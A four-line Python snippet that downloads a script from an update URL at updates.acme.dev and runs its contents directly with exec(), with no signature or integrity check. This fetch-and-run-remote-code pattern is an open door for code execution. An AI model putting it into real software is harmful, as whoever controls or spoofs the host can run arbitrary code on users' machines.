import requests
session = requests.Session()
request = requests.Request("GET", "https://updates.acme.dev/patch.py")
exec(session.send(session.prepare_request(request)).text)
